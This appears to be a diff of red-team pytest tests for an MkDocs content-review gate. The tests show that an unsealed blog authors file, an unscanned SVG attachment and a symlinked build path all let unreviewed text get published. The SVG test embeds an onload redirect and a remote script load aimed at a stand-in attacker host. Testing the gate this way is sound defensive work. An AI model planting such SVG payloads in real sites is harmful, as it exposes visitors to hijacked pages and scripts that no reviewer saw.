@@ -83,3 +83,60 @@ def test_replayed_old_seal_restores_a_revoked_reviewer(tmp_path: Path) -> None:
     result = site.gate_build()
     assert result.returncode != 0, "published on the replayed seal: " + ", ".join(published(site))
     assert published(site) == []
+
+
+# -- files the build reads that no seal and no review covers ---------------------------------------------
+
+@pytest.mark.xfail(strict=True, reason="red team: material's blog reads {blog}/.authors.yml from docs_dir; in "
+                   "exclude mode the gate leaves the dot-file out but the plugin still renders it (not sealed, not "
+                   "reviewed)")
+def test_blog_authors_file_publishes_unreviewed_text(tmp_path: Path) -> None:
+    import datetime as dt  # noqa: PLC0415
+
+    site = Site(tmp_path / "s", on_unapproved="exclude", theme="material", plugins_before=["search", "material/blog"])
+    site.write("signoffs/rules/allowed_domains.txt", "mkdocs.org\nsquidfunk.github.io\n")
+    site.write("content/blog/.authors.yml", "authors:\n  editor1:\n    name: 编辑甲\n    description: 采编\n"
+                                            "    avatar: https://www.mkdocs.org/a.png\n")
+    site.page("index.md", "# 首页\n\n欢迎访问。\n")
+    site.page("blog/index.md", "# 政务动态\n")
+    site.page("blog/posts/approved.md", "# 已审动态\n\n公开的摘要。\n\n<!-- more -->\n\n正文。\n",
+              date=dt.date(2025, 1, 8), authors=["editor1"])
+    for rel in ("index.md", "blog/index.md", "blog/posts/approved.md"):
+        site.approve(rel)
+    assert site.gate_build().returncode == 0
+    # the editor rewrites the authors file: nobody reviews or seals it
+    site.auto_seal = False
+    site.write("content/blog/.authors.yml", "authors:\n  editor1:\n    name: 县长已被免职\n    description: ZZQX未审文字\n"
+                                            "    avatar: https://www.mkdocs.org/a.png\n")
+    result = site.gate_build()
+    assert result.returncode != 0 or "ZZQX未审文字" not in site.site_text()
+
+
+@pytest.mark.xfail(strict=True, reason="red team: an SVG attachment counts as an image with no text to read; its "
+                   "script href, event handlers and text are published unscanned (reviewers see only the picture)")
+def test_svg_attachment_redirects_and_loads_scripts(tmp_path: Path) -> None:
+    site = approved_site(tmp_path / "s")
+    site.write("content/img/chart.svg", '<svg xmlns="http://www.w3.org/2000/svg" '
+               f'onload="location.href=\'https://{EVIL_HOST}/\'"><script href="https://{EVIL_HOST}/x.js"/>'
+               '<text x="0" y="15">统计图</text></svg>')
+    site.page("a.md", "# 统计\n\n![统计图](img/chart.svg)\n")
+    site.approve("a.md")
+    result = site.gate_build()
+    assert result.returncode != 0, "published: " + (site.site_dir / "img" / "chart.svg").read_text()
+    assert published(site) == []
+
+
+# -- the plugin under a plain `mkdocs build` --------------------------------------------------------------
+
+@pytest.mark.xfail(strict=True, reason="red team: plugin._from_docs_dir compares MkDocs' unresolved paths with the "
+                   "gate's resolved docs_dir; through a symlinked path every page counts as a theme file and none is "
+                   "checked (fail open)")
+def test_plain_build_through_a_symlinked_path_checks_nothing(tmp_path: Path) -> None:
+    from sitekit import BIN  # noqa: PLC0415
+
+    site = approved_site(tmp_path / "s")
+    site.page("draft.md", "# 草稿\n\nZZQX未审文字\n")        # never signed
+    (tmp_path / "link").symlink_to(site.root)               # e.g. macOS /tmp → /private/tmp, CI workspaces
+    result = site.run(str(BIN / "mkdocs"), "build", "-f", str(tmp_path / "link" / "mkdocs.yml"))
+    assert result.returncode != 0 and "draft.md" in result.stderr
+    assert "ZZQX" not in site.site_text()
